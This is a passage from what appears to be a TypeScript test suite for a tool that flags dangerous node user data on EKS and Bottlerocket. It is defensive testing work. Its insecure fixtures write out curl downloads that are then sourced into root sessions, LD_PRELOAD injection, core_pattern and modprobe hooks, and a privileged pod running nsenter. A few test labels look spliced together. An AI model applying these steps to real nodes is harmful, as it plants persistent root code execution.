            "curl -fsSL -o /opt/env.sh https://downloads.example.com/env.sh",
            `echo 'GRUB_CMDLINE_LINUX="console=ttyS0 systemd.setenv=BASH_ENV=/opt/env.sh"' >> /etc/default/grub`,
            "grub2-mkconfig -o /boot/grub2/grub.cfg",
        ]),
        LOADER,
    ),
    brCase(
        "M4b Bottlerocket settings.boot.init-parameters systemd.setenv PATH with a directory ahead of the system ones",
        ["[settings.boot.init-parameters]", '"systemd.setenv" = ["PATH=/local/bin:/usr/bin:/bin"]'],
        LOADER,
    ),
    devNodeCase(
        "M5b /etc/pam.d/sshd pam_env envfile= naming a downloaded file (content unknown)",
        devNodeScript("dev-m5b-72n-nodes", [
            "curl -fsSL -o /opt/ops/env https://downloads.example.com/env",
            "echo 'session required pam_env.so readenv=1 envfile=/opt/ops/env' >> /etc/pam.d/sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "M5c /etc/pam.d/sshd pam_env conffile= naming a pam_env.conf-style file with LD_PRELOAD DEFAULT=",
        devNodeScript("dev-m5c-72n-nodes", [
            SO,
            ...file("/opt/ops/pam_env.conf", ["LD_PRELOAD DEFAULT=/opt/x.so"]),
            "echo 'session required pam_env.so conffile=/opt/ops/pam_env.conf' >> /etc/pam.d/sshd",
        ]),
        LOADER,
    ),
    devNodeCase(
        "M5d /etc/pam.d/sshd pam_env envfile= written before the file it names (LD_PRELOAD)",
        devNodeScript("dev-m5d-72n-nodes", [
            SO,
            "echo 'session required pam_env.so envfile=/opt/ops/env' >> /etc/pam.d/sshd",
            ...file("/opt/ops/env", ["LD_PRELOAD=/opt/x.so"]),
        ]),
        LOADER,
    ),
    devNodeCase(
        "M6b /etc/profile.d assigns LD_PRELOAD then exports it bare",
        devNodeScript("dev-m6b-72n-nodes", [
            SO,
            ...file("/etc/profile.d/zz-ops.sh", ["LD_PRELOAD=/opt/x.so", "export LD_PRELOAD"]),
        ]),
        LOADER,
    ),
    devNodeCase(
        "M6c /etc/bashrc puts a directory the pack does not know root-owned ahead of PATH",
        devNodeScript("dev-m6c-72n-nodes", ["echo 'export PATH=/opt/tools/bin:$PATH' >> /etc/bashrc"]),
        LOADER,
    ),
    devNodeCase(
        "M6d /etc/profile.d sources another file into root's sessions",
        devNodeScript("dev-m6d-72n-nodes", [
            "curl -fsSL -o /opt/ops/env.sh https://downloads.example.com/env.sh",
            ...file("/etc/profile.d/zz-ops.sh", [". /opt/ops/env.sh"]),
        ]),
        LOADER,
    ),
    devNodeCase(
        "M6e /etc/profile exports BASH_ENV appended with echo",
        devNodeScript("dev-m6e-72n-nodes", [
            "curl -fsSL -o /opt/env.sh https://downloads.example.com/env.sh",
            "echo 'export BASH_ENV=/opt/env.sh' >> /etc/profile",
        ]),
        LOADER,
    ),
    devNodeCase(
        "M8 /etc/environment PATH ending in an empty entry (the working directory)",
        devNodeScript("dev-m8-72n-nodes", [`echo 'PATH="/usr/local/bin:/usr/bin:/bin:"' > /etc/environment`]),
        LOADER,
    ),
    devNodeCase(
        "M7 sed -i append of LD_PRELOAD to /etc/environment",
        devNodeScript("dev-m7-71n-nodes", [SO, "sed -i '$a LD_PRELOAD=/opt/x.so' /etc/environment"]),
        LOADER,
    ),
    // ---- Bottlerocket ----
    brCase(
        "B4 Bottlerocket settings.kernel.sysctl kernel.modprobe at a path under /mnt",
        ["[settings.kernel.sysctl]", '"kernel.modprobe" = "/mnt/hooks/modprobe"'],
        DATA,
    ),
    brCase(
        "B5 Bottlerocket bootstrap command apiclient set of a core_pattern pipe under /mnt",
        [
            "[settings.bootstrap-commands.10-core]",
            'commands = [["apiclient", "set", "kernel.sysctl.\\"kernel.core_pattern\\"=|/mnt/hooks/core %p"]]',
            'mode = "always"',
        ],
        DATA,
    ),
    brCase(
        "B6 Bottlerocket static pod: privileged, hostPID, nsenter (control)",
        [
            "[settings.kubernetes.static-pods.ops]",
            "enabled = true",
            `manifest = "${Buffer.from(
                [
                    "apiVersion: v1",
                    "kind: Pod",
                    "metadata: {name: ops, namespace: kube-system}",
                    "spec:",
                    "  hostPID: true",
                    "  containers:",
                    "  - name: ops",
                    "    image: public.ecr.aws/docker/library/alpine:3.20",
                    "    securityContext: {privileged: true}",
                    "    command: [nsenter, -t, '1', -a, sh, -c, 'sleep infinity']",
                ].join("\n"),
            ).toString("base64")}"`,
        ],
        /static pod|privileged|hostPID|ops/i,
    ),
];

const secure: NodeCase[] = [
    devNodeCase(
        "S1 udev rule setting the NVMe scheduler only (no RUN/PROGRAM/IMPORT{program})",
        devNodeScript("dev-s1-71n-nodes", [
            ...file("/etc/udev/rules.d/60-ops.rules", [
                'ACTION=="add|change", SUBSYSTEM=="block", KERNEL=="nvme[0-9]*n[0-9]*", ATTR{queue/scheduler}="none"',
            ]),
            "udevadm control --reload",
        ]),
    ),
    devNodeCase(
        "S2 logrotate config for an app's logs, gzip compress, no scripts",
        devNodeScript("dev-s2-71n-nodes", [
            ...file("/etc/logrotate.d/ops", [
                "/var/log/ops/*.log {",
                "    daily",
                "    rotate 7",
                "    compress",
                "    missingok",
                "    notifempty",
                "}",
            ]),
        ]),
    ),
    devNodeCase(
        "S3 modprobe.d nvme_core io_timeout option (AWS EBS guidance) and CIS install cramfs /bin/false",
        devNodeScript("dev-s3-71n-nodes", [
            ...file("/etc/modprobe.d/ops.conf", [
                "options nvme_core io_timeout=4294967295",
                "install cramfs /bin/false",
                "blacklist cramfs",
            ]),
        ]),
    ),
    devNodeCase(
        "S4 /etc/profile.d history timestamps and an idle timeout",
        devNodeScript("dev-s4-71n-nodes", [
            ...file("/etc/profile.d/zz-ops.sh", ["export HISTTIMEFORMAT='%F %T '", "TMOUT=900", "readonly TMOUT"]),
        ]),
    ),
    devNodeCase(
        "S5 system.conf.d ManagerEnvironment=TZ=UTC",
        devNodeScript("dev-s5-71n-nodes", [
            ...file("/etc/systemd/system.conf.d/50-env.conf", ["[Manager]", "ManagerEnvironment=TZ=UTC"]),
            "systemctl daemon-reexec",
        ]),
    ),
    devNodeCase(
        "S6 /etc/sysconfig/crond CRONDARGS=-m off",
        devNodeScript("dev-s6-71n-nodes", [
            ...file("/etc/sysconfig/crond", ['CRONDARGS="-m off"']),
            "systemctl restart crond",
        ]),
    ),
    devNodeCase(
        "S7 sysctl -w kernel.core_pattern to a file name and kernel.modprobe back to /sbin/modprobe",
        devNodeScript("dev-s7-71n-nodes", [
            "sysctl -w kernel.core_pattern=/var/crash/core.%e.%p",
            "sysctl -w kernel.modprobe=/sbin/modprobe",
        ]),
    ),
    devNodeCase(
        "S8 tmpfiles.d creating a data directory",
        devNodeScript("dev-s8-71n-nodes", [
            ...file("/etc/tmpfiles.d/ops.conf", ["d /var/lib/ops 0750 root root -"]),
            "systemd-tmpfiles --create /etc/tmpfiles.d/ops.conf",
        ]),
    ),
    devNodeCase(
        "S9 systemd .path unit restarting chronyd when its config changes",
        devNodeScript("dev-s9-71n-nodes", [
            ...file("/etc/systemd/system/chrony-reload.service", [
                "[Service]",
                "Type=oneshot",
                "ExecStart=/usr/bin/systemctl restart chronyd",
            ]),
            ...file("/etc/systemd/system/chrony-reload.path", [
                "[Path]",
                "PathChanged=/etc/chrony.conf",
                "[Install]",
                "WantedBy=multi-user.target",
            ]),
            "systemctl daemon-reload",
            "systemctl enable --now chrony-reload.path",
        ]),
    ),
    devNodeCase(
        "S10 flock -n around a packaged command",
        devNodeScript("dev-s10-71n-nodes", ["flock -n /run/ops.lock /usr/bin/systemctl restart chronyd"]),
    ),
    devNodeCase(
        "S11 crictl images / crictl ps (read-only runtime queries)",
        devNodeScript("dev-s11-71n-nodes", [
            "crictl images > /var/log/ops-images.txt",
            "crictl ps -a > /var/log/ops-ps.txt",
        ]),
    ),
    brCase("S12 Bottlerocket settings.kubernetes naming the basil cluster itself (baseline)", [
        "[settings.host-containers.admin]",
        "enabled = false",
    ]),
    brCase("S13 Bottlerocket settings.kernel.sysctl core_pattern to a file name", [
        "[settings.kernel.sysctl]",
        '"kernel.core_pattern" = "/var/crash/core.%e"',
    ]),
    devNodeCase(
        "S14 /etc/sysconfig/sshd with the packaged empty OPTIONS",
        devNodeScript("dev-s14-71n-nodes", [...file("/etc/sysconfig/sshd", ['OPTIONS=""']), "systemctl restart sshd"]),
    ),
    // N1/B1: on a managed node group with an EKS AMI type, EKS appends its own NodeConfig / merges its own
    // settings.kubernetes after the user data's, and nodeadm merges NodeConfigs in order, later values winning.
    devNodeCase(
        "S15 nodeadm NodeConfig naming another cluster (EKS MNG appends its own cluster NodeConfig after it)",
        r =>
            al2023Nodes(
                r,
                "dev-s15-71n-nodes",
                mime([
                    {
                        type: "application/node.eks.aws",
                        body: [
                            "apiVersion: node.eks.aws/v1alpha1",
                            "kind: NodeConfig",
                            "spec:",
                            "  cluster:",
                            "    name: ops-cluster",
                            "    apiServerEndpoint: https://k8s.example.com:6443",
                            "    certificateAuthority: Y2VydGlmaWNhdGVBdXRob3JpdHk=",
                            "    cidr: 10.100.0.0/16",
                        ].join("\n"),
                    },
                ]),
            ),
    ),
    {
        ...brCase(
            "S16 Bottlerocket settings.kubernetes naming another cluster's API server (EKS MNG merges its own)",
            [],
        ),
        edit: (r: Resources) => bottlerocket(r, brKubernetes("ops-cluster", "https://k8s.example.com:6443")),
    },
    devNodeCase(
        "S18 /etc/sysconfig/sshd LD_PRELOAD of a downloaded library (sshd only, the operator's own download)",
        devNodeScript("dev-s18-71n-nodes", [
            SO,
            ...file("/etc/sysconfig/sshd", ["LD_PRELOAD=/opt/x.so"]),
            "systemctl restart sshd",
        ]),
    ),
    devNodeCase(
        "S19 system.conf.d DefaultEnvironment continued on a second line with harmless variables",
        devNodeScript("dev-s19-71n-nodes", [
            ...file("/etc/systemd/system.conf.d/50-env.conf", [
                "[Manager]",
                "DefaultEnvironment=LANG=C.UTF-8 \\\\",
                "    TZ=UTC",
            ]),
            "systemctl daemon-reexec",
        ]),
    ),
    devNodeCase(
        "S20 crictl exec into kube-proxy of iptables-save to a log",
        devNodeScript("dev-s20-71n-nodes", [
            'crictl exec "$(crictl ps -q --name kube-proxy)" iptables-save > /var/log/ops-iptables.txt',
        ]),
    ),
    devNodeCase(
        "S21 find -print0 | xargs -0 rm -f of old compressed logs",
        devNodeScript("dev-s21-71n-nodes", ["find /var/log/ops -name '*.gz' -mtime +7 -print0 | xargs -0 rm -f"]),
    ),
    // Was a MISS (fixed in round 72): (secure) PATH-SYSTEM-DIRS. pam_env(8) /etc/environment "simple KEY=VAL pairs"; the value is Ubuntu's
    // packaged /etc/environment PATH, every directory root-owned (FHS 3.0 /usr/local/bin, /usr/bin ...), none a directory
    // pods write: harmless. Refused: userData.ts managerLoaderOpenings (LOADER_VARIABLES includes PATH, any value fails
    // closed). Fix: a PATH whose entries are all root-owned system directories (rootReads.ts DEFAULT_PATH) is accepted.
    devNodeCase(
        "S22 /etc/environment with the distribution's default PATH (root-owned directories only)",
        devNodeScript("dev-s22-71n-nodes", [
            `echo 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin"' > /etc/environment`,
        ]),
        /./,
    ),
    // Was a MISS (fixed in round 72): (secure) PATH-SYSTEM-DIRS (DefaultEnvironment=PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin,
    // systemd's own compiled-in default for units: systemd.exec(5) "$PATH ... set to /usr/local/sbin:/usr/local/bin:
    // /usr/sbin:/usr/bin"): harmless, refused as I1's loader variable. Same fix as S22.
    devNodeCase(
        "S23 system.conf.d DefaultEnvironment PATH of root-owned system directories",
        devNodeScript("dev-s23-71n-nodes", [
            ...file("/etc/systemd/system.conf.d/50-path.conf", [
                "[Manager]",
                "DefaultEnvironment=PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin",
            ]),
        ]),
        /./,
    ),
    // Round 72 neighbours (secure) of S22/S23 and the other environment places: harmless variables and PATHs of
    // root-owned system directories only, in every place the loader rule reads.
    devNodeCase(
        "S22b /etc/environment with Ubuntu's packaged PATH (games and snapd's /snap/bin included)",
        devNodeScript("dev-s22b-72n-nodes", [
            `echo 'PATH="/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin:/usr/games:/usr/local/games:/snap/bin"' > /etc/environment`,
        ]),
    ),
    devNodeCase(
        "S23b user.conf.d ManagerEnvironment=TZ and a system PATH",
        devNodeScript("dev-s23b-72n-nodes", [
            ...file("/etc/systemd/user.conf.d/50-env.conf", [
                "[Manager]",
                "ManagerEnvironment=TZ=UTC PATH=/usr/local/bin:/usr/bin",
            ]),
        ]),
    ),
    devNodeCase(
        "S23c grubby kernel command line systemd.setenv=TZ=UTC",
        devNodeScript("dev-s23c-72n-nodes", ['grubby --update-kernel=ALL --args="systemd.setenv=TZ=UTC"']),
    ),
    brCase("S23d Bottlerocket settings.boot.init-parameters systemd.setenv TZ=UTC", [
        "[settings.boot.init-parameters]",
        '"systemd.setenv" = ["TZ=UTC"]',
    ]),
    devNodeCase(
        "S23e /etc/pam.d/sshd pam_env envfile= naming a file user data writes with LANG and TZ",
        devNodeScript("dev-s23e-72n-nodes", [
            ...file("/etc/ops/ssh-env", ["LANG=C.UTF-8", "TZ=UTC"]),
            "echo 'session required pam_env.so readenv=1 envfile=/etc/ops/ssh-env' >> /etc/pam.d/sshd",
        ]),
    ),
    devNodeCase(
        "S23f /etc/profile.d PATH=$PATH:/usr/local/sbin; export PATH (the form of AL's packaged .bash_profile)",
        devNodeScript("dev-s23f-72n-nodes", [
            ...file("/etc/profile.d/zz-path.sh", ["PATH=$PATH:/usr/local/sbin", "export PATH", "export HISTSIZE=5000"]),
        ]),
    ),
    devNodeCase(
        "S24 /etc/profile.d appending /usr/local/bin to PATH",
        devNodeScript("dev-s24-71n-nodes", [
            ...file("/etc/profile.d/zz-path.sh", ['export PATH="$PATH:/usr/local/bin"']),
        ]),
    ),
    brCase("S25 Bottlerocket settings.boot.init-parameters systemd.log_level=debug", [
        "[settings.boot.init-parameters]",
        '"systemd.log_level" = ["debug"]',
    ]),
    devNodeCase(
        "S26 xargs -a a root-written list of packaged unit names, systemctl restart each",
        devNodeScript("dev-s26-71n-nodes", [
            "printf '%s\\n' chronyd crond > /var/lib/ops/units",
            "xargs -a /var/lib/ops/units -n1 systemctl restart",
        ]),
    ),
    // Held as accepted by design: an operator-named image source is trusted like hosts.toml mirrors (userData.ts
    // registryHostsOpenings checks only writable paths) and downloads (README DECIDED round 69).
    brCase(
        "S27 Bottlerocket registry mirror of the EKS add-on registry to an operator-named hostBottlerocket registry mirror of the EKS add-on registry to a third-party host (control)",
        [
            "[[settings.container-registry.mirrors]]",
            'registry = "602401143452.dkr.ecr.eu-west-1.amazonaws.com"',
            'endpoint = ["https://registry.example.net"]',
        ],
    ),
    // Held as accepted by design (same reasoning as S27: the proxy and CA are the operator's own).
    brCase(
        "S28 Bottlerocket trusted PKI bundle plus an operator https-proxyBottlerocket trusted PKI bundle plus an https-proxy (TLS interception of image pulls)",
        [
            "[settings.network]",
            'https-proxy = "proxy.example.net:3128"',
            "[settings.pki.ops]",
            "trusted = true",
            'data = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSU9wc0NBRXhhbXBsZU9ubHkKLS0tLS1FTkQgQ0VSVElGSUNBVEUtLS0tLQo="',
        ],
    ),
    devNodeCase(
        "S29 crictl exec into kube-proxy of a path that is no node path (/host/data inside the container)crictl exec into kube-proxy running a hook under /data (host namespaces)",
        devNodeScript("dev-i26-71n-nodes", [
            `crictl exec "$(crictl ps -q --name kube-proxy)" sh -c 'exec /host/data/hook'`,
        ]),
    ),
    devNodeCase(
        "S30 crictl exec --name kube-proxy (filter, no id) of iptables-save",
        devNodeScript("dev-s30-72n-nodes", ["crictl exec --name kube-proxy iptables-save"]),
    ),
    devNodeCase(
        "S31 xargs -a a root-written command list -I{} sh -c {} (its lines read as root's)",
        devNodeScript("dev-s31-72n-nodes", [
            "printf '%s\\n' 'systemctl restart chronyd' > /var/lib/ops/cmds",
            "xargs -a /var/lib/ops/cmds -I{} sh -c '{}'",
        ]),
    ),
    devNodeCase(
        "S32 find -print0 | xargs -0 -I{} sh -c 'gzip -t {}' (items are paths under a root-owned tree)",
        devNodeScript("dev-s32-72n-nodes", [
            "find /var/log/ops -name '*.gz' -print0 | xargs -0 -I{} sh -c 'gzip -t {}'",
        ]),
    ),
];

describeNodeCases("red team 71: node user data and programs on nodes (fresh eyes on round 71)", insecure, secure);
